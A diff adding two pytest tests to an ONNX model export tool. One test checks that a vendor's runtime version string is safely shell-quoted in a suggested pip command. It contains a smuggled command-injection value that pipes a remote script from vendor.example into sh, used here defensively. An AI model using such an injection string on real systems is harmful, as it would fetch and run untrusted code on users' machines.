@@ -184,6 +184,15 @@ def test_an_older_onnxruntime_than_exports_is_warned_of_once(tiny_image_artifact
     assert f"parity checked, with onnxruntime 99.1.0; this one is {ort.__version__}" in first
     assert "vigil eval" in first and "pip install 'onnxruntime>=99.1.0'" in first
     assert artifact._older_runtime_warning(newer, tiny_image_artifact) is None  # once
+    # a vendor's version text is one word of the command it suggests, never a command (r3)
+    import shlex
+
+    hostile = dataclasses.replace(spec, versions={
+        "onnxruntime": "99.2' && curl -s http://vendor.example/fix.sh | sh && echo '"})
+    said = artifact._older_runtime_warning(hostile, "vendor model.onnx")
+    assert shlex.split(said.split("(vigil eval ")[1].split(" DATA)")[0]) == ["vendor model.onnx"]
+    assert shlex.split(said.split("(pip install ")[1][:-1]) == [
+        "onnxruntime>=99.2' && curl -s http://vendor.example/fix.sh | sh && echo '"]
     for same_or_older in ({"onnxruntime": ort.__version__}, {"onnxruntime": "1.0"},
                           {"onnxruntime": "unknown"}, {}):
         assert artifact._older_runtime_warning(
@@ -501,3 +510,37 @@ def test_export_names_a_model_that_is_not_what_its_sidecar_describes(sensor_arti
     assert cli.main(["export", str(tmp_path / "folder.keras"), "-o", str(tmp_path / "g.onnx")]) == 2
     assert "is a folder" in capsys.readouterr().err
     assert not list(tmp_path.glob("*.onnx"))
+
+
+def test_inspect_and_eval_read_a_vendors_odd_training_record_without_failing(tmp_path, capsys):
+    """Entries the runtime never scores with, of another form than training writes: `vigil
+    inspect` ended in an AttributeError on `files` of strings and a TypeError on a `rows` of
+    text, `vigil eval` in a TypeError on a digest that is a list (review r3)."""
+    from dataclasses import replace
+
+    import cv2
+    import numpy as np
+    from image_fixtures import tiny_image_graph, tiny_image_spec
+    from sensor_fixtures import tiny_sensor_graph, tiny_sensor_spec
+
+    from vigil.export.package import write_artifact
+
+    for n, files in enumerate((["a.csv", "b.csv"], [{"rows": "many"}, {"rows": 7}], [None])):
+        model = write_artifact(tiny_sensor_graph(), replace(tiny_sensor_spec(), training={
+            "files": files}), tmp_path / f"odd{n}.onnx")
+        assert cli.main(["inspect", str(model)]) == 0
+        assert f"trained on: {len(files)} file(s)" in capsys.readouterr().out
+    image = write_artifact(tiny_image_graph(), replace(tiny_image_spec(), training={
+        "files_sha256": {"digests": "pixels", "trained": [["a"]], "held_out": [{"b": 1}]}}),
+        tmp_path / "odd-image.onnx")
+    rng = np.random.default_rng(0)
+    for folder in ("good", "bad"):
+        (tmp_path / folder).mkdir()
+    for n in range(3):
+        cv2.imwrite(str(tmp_path / "good" / f"{n}.png"), rng.integers(60, 190, (40, 40), np.uint8))
+    defect = rng.integers(60, 190, (40, 40), np.uint8)
+    defect[5:15, 5:15] = 255
+    cv2.imwrite(str(tmp_path / "bad" / "0.png"), defect)
+    assert cli.main(["eval", str(image), str(tmp_path / "good"), "--anomalous",
+                     str(tmp_path / "bad"), "--json", str(tmp_path / "m.json")]) == 0
+    assert json.loads((tmp_path / "m.json").read_text())["images_trained_on"] == 0
